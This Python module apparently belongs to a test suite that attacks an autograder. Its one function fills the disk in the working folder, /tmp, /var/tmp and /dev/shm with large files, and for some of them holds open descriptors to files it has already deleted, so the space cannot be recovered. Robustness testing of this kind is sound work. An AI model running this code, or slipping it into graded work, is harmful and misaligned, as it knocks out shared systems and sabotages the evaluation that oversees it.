"""Fills the disk: its own folder, /tmp, /dev/shm, with files that have no name any more."""

import os


def during(name, honest, args, kwargs):
    block, number = b"x" * (8 << 20), 0
    kept = []
    while number < 2000:
        for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
            path = os.path.join(place, f"autograder-attack-{TOKEN}-{os.getpid()}-{number}")
            number += 1
            try:
                with open(path, "wb") as file:
                    for _ in range(5):
                        file.write(block)
                if number % 2 and len(kept) < 100:
                    kept.append(os.open(path, os.O_RDONLY))
                    os.unlink(path)
            except OSError:
                pass
